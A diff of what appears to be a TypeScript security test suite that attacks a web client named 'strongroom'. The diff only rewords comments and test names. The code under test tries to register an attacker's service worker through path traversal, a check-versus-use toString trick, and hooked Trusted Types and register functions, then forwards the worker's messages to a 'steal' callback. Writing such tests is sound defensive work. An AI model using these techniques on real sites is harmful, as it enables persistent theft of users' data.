@@ -1,21 +1,21 @@
 import { attack, type Payload } from "../attack.js";
 
-/** As the page client has it. */
+/** The page client's `connect`. */
 type Connect = (options: { worker: string }) => Promise<unknown>;
 
 const FILE = "/worker-of-the-attacker.js";
 
-/** A host that does not name the worker scripts: any file of the origin may be a worker, if Trusted Types let it. */
+/** A host that does not name the worker scripts: any file of the origin may be a worker if Trusted Types allow it. */
 const anyFile = (_name: string, value: string) => value.replace(/worker-src [^;]+/, "worker-src 'self'");
 
-/** Listens to what the attacker's worker tells the pages. */
+/** Listens to the messages of the attacker's worker. */
 const listen: Payload = (it) => {
   navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
   navigator.serviceWorker.startMessages();
 };
 
 export const secondConnect = attack({
-  name: "a second connect() with a worker of the attacker's choice",
+  name: "calls connect() again with its own worker",
   threat: "persistent theft",
   target: "strongroom",
   afterConnect: true,
@@ -24,7 +24,7 @@ export const secondConnect = attack({
   hook: listen,
   async payload(it) {
     const { connect } = (await import("/app.js" as string)) as { connect: Connect };
-    // A check of one text and a use of another would let the attacker's URL through.
+    // If the client checked one string and used another, it would accept the attacker's URL.
     const changing = {
       asked: 0,
       toString() {
@@ -33,7 +33,7 @@ export const secondConnect = attack({
     };
     const own = "/worker-of-the-attacker.js";
     for (const worker of [own, new URL(own, it.appUrl), `/vault-worker.js/..${own}`, changing]) {
-      // It does not answer as a vault would: `connect` fails when the worker is there.
+      // The attacker's worker does not respond like a vault, so `connect` fails once it is registered.
       await Promise.race([connect({ worker: worker as string }).catch(() => {}), it.pause(1_000)]);
       const { installing, waiting, active } = (await navigator.serviceWorker.getRegistration("/")) ?? {};
       if ([installing, waiting, active].some((worker) => worker?.scriptURL.endsWith(own))) return;
@@ -43,14 +43,14 @@ export const secondConnect = attack({
 });
 
 export const hookedPolicy = attack({
-  name: "hooks on everything that a second connect() calls with a script URL",
+  name: "hooks every function that a second connect() calls with a script URL",
   threat: "persistent theft",
   target: "strongroom",
   afterConnect: true,
   leavesWorkers: true,
   rewrite: anyFile,
   hook: listen,
-  // React runs the provider's effect again whenever the app shows it again: here the attacker calls what it calls.
+  // React runs the provider's effect again when the app remounts it. Here the attacker makes the same calls.
   async payload(it) {
     const script = "/worker-of-the-attacker.js";
     const { apply } = Reflect;
@@ -61,7 +61,7 @@ export const hookedPolicy = attack({
     const { createScriptURL } = TrustedTypePolicy.prototype;
     const { createPolicy } = trustedTypes;
     const { register } = ServiceWorkerContainer.prototype;
-    // What may make the browser register the attacker's script.
+    // Everything that could make the browser register the attacker's script.
     const urls: unknown[] = [];
     const isRegistered = async () => {
       const { installing, waiting, active } = (await navigator.serviceWorker.getRegistration("/")) ?? {};
@@ -80,7 +80,7 @@ export const hookedPolicy = attack({
       try {
         urls.push(apply(createScriptURL, policy, [script]));
       } catch {
-        // It is none.
+        // Not a valid URL.
       }
     };
     const takeUrl = (url: unknown) => {
@@ -129,7 +129,7 @@ export const hookedPolicy = attack({
       await Promise.race([connect({ worker: worker as string }).catch(() => {}), it.pause(1_000)]);
       if (await isRegistered()) return;
     }
-    // A worker that cannot be registered makes the client look for the reason, in a worker.
+    // If a worker cannot be registered, the client looks for the reason in a worker.
     ServiceWorkerContainer.prototype.register = () => Promise.reject(new TypeError());
     await Promise.race([connect({ worker: "/vault-worker.js" }).catch(() => {}), it.pause(1_000)]);
     for (const undo of restore.reverse()) undo();
